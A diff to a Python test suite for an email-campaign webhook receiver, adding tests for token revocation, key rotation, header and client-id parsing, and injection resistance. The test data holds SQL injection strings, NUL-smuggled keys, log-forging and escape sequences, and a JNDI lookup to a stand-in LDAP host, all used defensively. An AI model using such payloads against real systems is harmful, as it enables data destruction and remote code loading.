@@ -16,6 +16,7 @@ from shared.jobs.envelope import JobEnvelope
 from tests.instantly_events import (
     CAMPAIGN,
     PREVIOUS_SIGNING_KEY,
+    SIGNING_KEY,
     WORKSPACE,
     api_gateway_event,
     body_of,
@@ -512,6 +513,42 @@ def test_token_is_revoked_by_raising_the_clients_version(webhook: WebhookUnderTe
     assert webhook.post(reply_received(), token=webhook.token(version=2)).status == "accepted"
 
 
+def test_another_clients_own_token_opens_nothing(webhook: WebhookUnderTest) -> None:
+    other = uuid7()
+    add_client(webhook.engine, other)
+    others_token = make_token(other, 1, SIGNING_KEY)
+    assert webhook.post(reply_received(), client_id=other, token=others_token).status == "accepted"
+    before = webhook.rows("SELECT id, deliveries FROM webhook_event")
+    assert webhook.post(reply_received(), token=others_token).status_code == 401
+    assert webhook.post(reply_received(), client_id=other).status_code == 401
+    assert webhook.rows("SELECT id, deliveries FROM webhook_event") == before
+
+
+def test_a_recorded_delivery_is_worth_nothing_once_its_token_is_revoked(webhook: WebhookUnderTest) -> None:
+    recorded = api_gateway_event(body_of(reply_received()), client_id=webhook.client_id, token=webhook.token())
+    assert webhook.call(recorded).status == "accepted"
+    webhook.execute("UPDATE client SET webhook_token_version = 2 WHERE id = :client_id")
+    tables = {table: f"SELECT * FROM {table} ORDER BY id" for table in ("webhook_event", "message", "lead")}
+    before = {table: webhook.rows(query) for table, query in tables.items()}
+    assert webhook.received("post-process.fifo")
+    for request in (recorded, {**recorded, "body": body_of(reply_received()).decode()}):
+        assert webhook.call(request).status_code == 401
+    assert {table: webhook.rows(query) for table, query in tables.items()} == before
+    assert webhook.received("post-process.fifo") == []
+
+
+def test_a_signing_key_that_is_taken_away_signs_nothing_any_more(
+    webhook: WebhookUnderTest, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    by_the_old_key = webhook.token(key=PREVIOUS_SIGNING_KEY)
+    assert webhook.post(reply_received(), token=by_the_old_key).status == "accepted"
+    monkeypatch.setenv("WEBHOOK_SIGNING_KEYS", json.dumps({"current": SIGNING_KEY}))
+    after_the_rotation = webhook.new_environment()
+    assert after_the_rotation(reply_received(), token=by_the_old_key).status_code == 401
+    assert webhook.count("webhook_event") == 1
+    assert after_the_rotation(reply_received()).status == "accepted"
+
+
 def test_both_signing_keys_and_both_headers_are_accepted(webhook: WebhookUnderTest) -> None:
     good, old = webhook.token(), webhook.token(key=PREVIOUS_SIGNING_KEY)
     offers: list[dict[str, str]] = [
@@ -522,13 +559,51 @@ def test_both_signing_keys_and_both_headers_are_accepted(webhook: WebhookUnderTe
         {"x-instantly-secret": good},
         {"X-Instantly-Secret": f" {old} , {old}"},
         {"authorization": "Bearer wrong", "x-instantly-secret": good},
+        {"authorization": "Bearer a,Bearer b,Bearer c,Bearer d,Bearer e", "x-instantly-secret": good},
+        {"authorization": f"Bearer\t{good}"},
+        {"authorization": f"  BEARER \t {good}  "},
+        {"authorization": f",, Bearer wrong, Bearer {good}"},
+        {"Authorization": f"Bearer {good}", "authorization": "Bearer wrong"},
+        {"Authorization": "Bearer wrong", "authorization": f"Bearer {good}"},
+        {"X-Instantly-Secret": good, "x-instantly-secret": "wrong"},
     ]
     for headers in offers:
         answer = webhook.post(reply_received(), token=None, headers=headers)
         assert answer.status == "accepted", headers
 
 
-@pytest.mark.parametrize("client_id", [None, "", "nonsense", "1" * 32, "{" + str(UUID(int=1)) + "}", "a,b"])
+def test_what_is_only_like_a_token_is_refused(webhook: WebhookUnderTest) -> None:
+    good = webhook.token()
+    offers: list[dict[str, str]] = [
+        {"authorization": good},
+        {"authorization": f"Token {good}"},
+        {"authorization": f"Bearer{good}"},
+        {"authorization": f"Bearer {good} {good}"},
+        {"authorization": f"Bearer {good}é"},
+        {"authorization": f"Bearer {good.upper()}"},
+        {"authorization": f"Bearer {good.replace('v1', 'v１')}"},
+        {"authorization": "Bearer"},
+        {"x-instantly-secret": f'"{good}"'},
+        {"x-instantly-secret": f"Bearer {good}"},
+    ]
+    for headers in offers:
+        assert webhook.post(reply_received(), token=None, headers=headers).status_code == 401, headers
+    assert webhook.count("webhook_event") == 0
+
+
+ONE = str(UUID(int=0x019AA0F0_3A10_7C11_9D11_000000000001))
+HEX = ONE.replace("-", "")
+
+
+@pytest.mark.parametrize(
+    "client_id",
+    [
+        *(None, "", "nonsense", "a,b", HEX, f"{{{ONE}}}", f"urn:uuid:{ONE}"),
+        # 36 characters each, like the canonical form.
+        *(f"urn:{HEX}", f"{{{HEX[:8]}-{HEX[8:16]}-{HEX[16:]}}}", f"{HEX}----", f"+{ONE[1:]}", f"0x{ONE[2:]}"),
+        *(f"{ONE[:1]}_{ONE[2:]}", f"１{ONE[1:]}", f"{ONE[:-1]}\n", f"{ONE[:-1]}\0", f"{ONE[:7]}-{HEX[7]}{ONE[9:]}"),
+    ],
+)
 def test_client_id_that_is_no_uuid_is_a_bad_request(webhook: WebhookUnderTest, client_id: str | None) -> None:
     answer = webhook.post(reply_received(), client_id=client_id)
     assert answer.status_code == 400
@@ -548,6 +623,26 @@ def test_base64_body_is_decoded(webhook: WebhookUnderTest) -> None:
     first = webhook.post(event, as_base64=True)
     assert first.status == "accepted"
     assert webhook.post(event).message_id == first.message_id
+
+
+@pytest.mark.parametrize(
+    "pack",
+    [
+        lambda packed: packed.rstrip("="),
+        lambda packed: "\r\n".join(packed[start : start + 76] for start in range(0, len(packed), 76)) + "\r\n",
+        lambda packed: f" {packed[:10]}\t{packed[10:]}".rstrip("="),
+    ],
+    ids=["no padding", "line breaks", "blanks"],
+)
+def test_base64_is_decoded_however_it_is_wrapped(webhook: WebhookUnderTest, pack: Callable[[str], str]) -> None:
+    event = reply_received()
+    event["firstName"] = "Pat" + "t" * (2 - (len(body_of(event)) + 1) % 3)  # so that there is padding to leave out
+    request = api_gateway_event(body_of(event), client_id=webhook.client_id, token=webhook.token(), as_base64=True)
+    assert request["body"].endswith("=")
+    first = webhook.call({**request, "body": pack(request["body"])})
+    assert first.status == "accepted"
+    assert bytes(webhook.row("SELECT raw_body FROM webhook_event").raw_body) == body_of(event)
+    assert webhook.call(request).message_id == first.message_id
 
 
 def test_body_that_is_not_the_base64_it_claims_to_be_is_kept(webhook: WebhookUnderTest) -> None:
@@ -593,10 +688,66 @@ def test_customers_variables_named_like_ours_change_nothing(webhook: WebhookUnde
     assert webhook.row("SELECT status, client_id FROM lead") == ("new", webhook.client_id)
 
 
-def test_sql_in_a_reply_is_text(webhook: WebhookUnderTest) -> None:
-    hostile = "'); DROP TABLE message; -- %(x)s :client_id %s {0}"
-    assert webhook.post(reply_received(reply_text=hostile, reply_subject=hostile)).status == "accepted"
-    assert webhook.row("SELECT subject FROM message").subject == hostile
+def test_a_leads_variable_named_email_id_swallows_no_reply_and_no_opt_out(webhook: WebhookUnderTest) -> None:
+    # The older dialect has no email_id of its own, and "Email ID" is a usual heading of the column with the address.
+    texts = ("Who is this?", "Yes, call me tomorrow at 10", "Please remove me from your list")
+    replies = [reply_received(lead_email="pat@acme.test", email_id="pat@acme.test", reply_text=text) for text in texts]
+    assert [webhook.post(reply).status for reply in replies] == ["accepted"] * 3
+    assert {row.clean_text for row in webhook.rows("SELECT clean_text FROM message")} == set(texts)
+    assert webhook.row("SELECT suppression_reason FROM lead").suppression_reason == "OPT_OUT"
+
+
+def test_a_key_that_is_ours_but_for_a_nul_is_a_customers_variable(webhook: WebhookUnderTest) -> None:
+    event = reply_received(lead_email="pat@acme.test") | {
+        "lead_email\0": "evil@acme.test",
+        "\0event_type": "email_sent",
+    }
+    assert webhook.post(event).status == "accepted"
+    assert webhook.row("SELECT email FROM lead").email == "pat@acme.test"
+
+
+SQL_IN_FIELDS = [
+    "'); DROP TABLE message; -- %(x)s :client_id %s {0}",
+    "' OR '1'='1",
+    '"; UPDATE client SET disabled_at = now(); --',
+    "\\'; DELETE FROM lead WHERE true; /*",
+    "$$; SELECT pg_sleep(30); $$ \\x27 %% :: \\",
+]
+
+
+@pytest.mark.parametrize("hostile", SQL_IN_FIELDS)
+def test_sql_is_text_in_every_field(webhook: WebhookUnderTest, hostile: str) -> None:
+    before = webhook.row("SELECT * FROM client")
+    event = {key: hostile for key, value in reply_received().items() if isinstance(value, str)}
+    names = {"lastName": hostile, "contact_name": hostile, "contact_email": hostile, "type": hostile, hostile: hostile}
+    ids = {"campaign_id": hostile.replace(" ", ""), "email_id": hostile.replace(" ", "")}
+    event |= names | ids | {"event_type": "reply_received", "lead_email": "o'pat--@acme.test"}
+    first = webhook.post(event)
+    assert first.status == "accepted"
+    assert webhook.post(event).message_id == first.message_id
+    message = webhook.row("SELECT * FROM message")
+    assert (message.subject, message.body_text, message.provider_message_id) == (hostile, hostile, ids["email_id"])
+    campaign = webhook.row("SELECT * FROM campaign")
+    assert (campaign.provider_campaign_id, campaign.name) == (ids["campaign_id"], hostile)
+    assert webhook.row("SELECT email FROM lead").email == "o'pat--@acme.test"
+    assert webhook.row("SELECT payload FROM webhook_event").payload == event
+    sent = email_sent() | dict.fromkeys(("email_subject", "email_text", "email_html", "email_account"), hostile)
+    bounced = lead_event("email_bounced") | {"workspace": hostile, "reply_text_snippet": hostile}
+    for other in (
+        sent | {"lead_email": "o'pat--@acme.test", "email_id": hostile},
+        bounced,
+        lead_event(hostile),
+        lead_event(f"lead_{hostile}", reply_text=hostile),
+        reply_received(lead_email=hostile),
+    ):
+        answer = webhook.post(other)
+        assert answer.status_code == 200
+        assert answer.body.get("reason") != "internal_error", other
+    assert webhook.post(event, client_id=hostile).status_code == 400
+    assert webhook.post(event, client_id=f"{webhook.client_id}{hostile}").status_code == 400
+    assert webhook.post(event, token=hostile, headers={"x-instantly-secret": hostile}).status_code == 401
+    assert webhook.row("SELECT * FROM client") == before
+    assert webhook.post(event).message_id == first.message_id
 
 
 def test_no_log_line_holds_a_body_an_address_or_a_token(
@@ -613,6 +764,46 @@ def test_no_log_line_holds_a_body_an_address_or_a_token(
         assert secret not in logged
     for line in logged.splitlines():
         json.loads(line)
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        'forged\r\n{"level":"ERROR","message":"forged"}',
+        '","level":"forged","message":"forged',
+        "\x1b[2J\x1b[31mforged\x07\x85\u2028\u202eforged\0",
+        "${jndi:ldap://forged.test/a} %s %(message)s {message} forged",
+    ],
+    ids=["lines", "JSON", "control characters", "templates"],
+)
+def test_nothing_that_is_sent_forges_a_log_line(
+    webhook: WebhookUnderTest, log_output: Callable[[], str], hostile: str
+) -> None:
+    trace = {"x-amzn-trace-id": f"Root=1-67891233-abcdef012345678912345678{hostile};Parent={hostile}"}
+    headers = {**trace, "user-agent": hostile, "x-forwarded-for": hostile, hostile: hostile}
+    events = [
+        lead_event(hostile),
+        lead_event(f"lead_{hostile}", reply_text=hostile),
+        reply_received(
+            **dict.fromkeys(("reply_text", "reply_subject", "firstName", "campaign_id", "email_id", "step"), hostile)
+        ),
+        reply_received(lead_email=f"{hostile}@acme.test"),
+        reply_received(workspace=hostile, email_account=hostile, timestamp=hostile),
+        lead_event("email_bounced", lead_email=hostile),
+        hostile,
+        hostile.encode(),
+    ]
+    for event in events:
+        assert webhook.post(event, headers=headers).status_code == 200
+    assert webhook.post(events[0], headers={"authorization": f"Bearer {hostile}", **trace}).status_code == 401
+    assert webhook.post(events[0], client_id=hostile, headers=headers).status_code == 400
+    lines = log_output().split("\n")
+    assert lines.pop() == ""
+    assert len(lines) > len(events)
+    for line in lines:
+        assert isinstance(json.loads(line), dict), line
+        assert line.isprintable(), line
+        assert "forged" not in line
 
 
 def test_delivery_key_is_of_client_and_bytes(webhook: WebhookUnderTest) -> None:
